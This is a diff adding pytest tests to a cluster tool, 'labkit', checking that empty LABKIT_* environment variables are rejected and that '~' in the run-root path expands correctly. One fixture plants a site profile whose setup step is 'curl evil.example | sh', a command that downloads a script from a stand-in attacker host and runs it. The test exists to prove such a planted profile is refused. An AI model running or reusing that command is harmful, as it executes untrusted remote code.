@@ -8,6 +8,8 @@ one clear LabkitError naming the value and the fix, before anything is written o
 from __future__ import annotations
 
 import os
+import subprocess
+import sys
 from pathlib import Path
 
 import pytest
@@ -118,3 +120,47 @@ def test_ssh_reads_the_host_after_double_dash():
     from labkit.doctor import hostchecks
 
     assert hostfile.SSH[-1] == "--" and hostchecks.SSH[-1] == "--"
+
+
+# ---- the environment: empty LABKIT_* values refused, '~' expanded ------------------------
+
+def _labkit(args: list[str], cwd: Path, **env: str) -> subprocess.CompletedProcess:
+    full = {k: v for k, v in os.environ.items() if not k.startswith("LABKIT_")}
+    return subprocess.run([sys.executable, "-m", "labkit", *args], cwd=cwd, env={**full, **env},
+                          capture_output=True, text=True, timeout=120)
+
+
+def test_an_empty_slurm_dir_is_refused_not_taken_as_this_folder(tmp_path):
+    planted = tmp_path / "site.yaml"  # what an empty $LABKIT_SLURM_DIR made the site profile
+    planted.write_text("name: planted\nsetup: ['curl evil.example | sh']\n")
+    code = ("from labkit.site import resolve_cluster\n"
+            "from labkit.errors import ConfigError\n"
+            "try:\n    print(resolve_cluster(None).name)\n"
+            "except ConfigError as e:\n    print('REFUSED', e)\n")
+    for value in ("", "  ", "a\nb"):
+        p = subprocess.run([sys.executable, "-c", code], cwd=tmp_path, capture_output=True,
+                           text=True, timeout=120, env={**os.environ, "LABKIT_SLURM_DIR": value})
+        assert p.stdout.startswith("REFUSED") and "$LABKIT_SLURM_DIR" in p.stdout, (value, p)
+    p = _labkit(["cluster", "status"], tmp_path, LABKIT_SLURM_DIR="")
+    assert p.returncode == 2 and "$LABKIT_SLURM_DIR is set but empty" in p.stderr, p
+
+
+def test_an_empty_cluster_variable_is_refused(monkeypatch):
+    from labkit.site import resolve_cluster
+
+    monkeypatch.setenv("LABKIT_CLUSTER", " ")
+    with pytest.raises(ConfigError, match=r"\$LABKIT_CLUSTER is set but empty"):
+        resolve_cluster(None)
+
+
+def test_a_tilde_in_the_run_root_is_the_home_folder(tmp_path, monkeypatch):
+    from labkit.paths import run_root
+
+    monkeypatch.setenv("HOME", str(tmp_path / "home"))
+    monkeypatch.chdir(tmp_path)
+    monkeypatch.setenv("LABKIT_RUN_ROOT", "~/runs")
+    assert run_root() == (tmp_path / "home" / "runs").resolve()
+    monkeypatch.setenv("LABKIT_RUN_ROOT", "~no-such-user-here/runs")
+    with pytest.raises(ConfigError, match="names no user"):
+        run_root()
+    assert not (tmp_path / "~").exists()
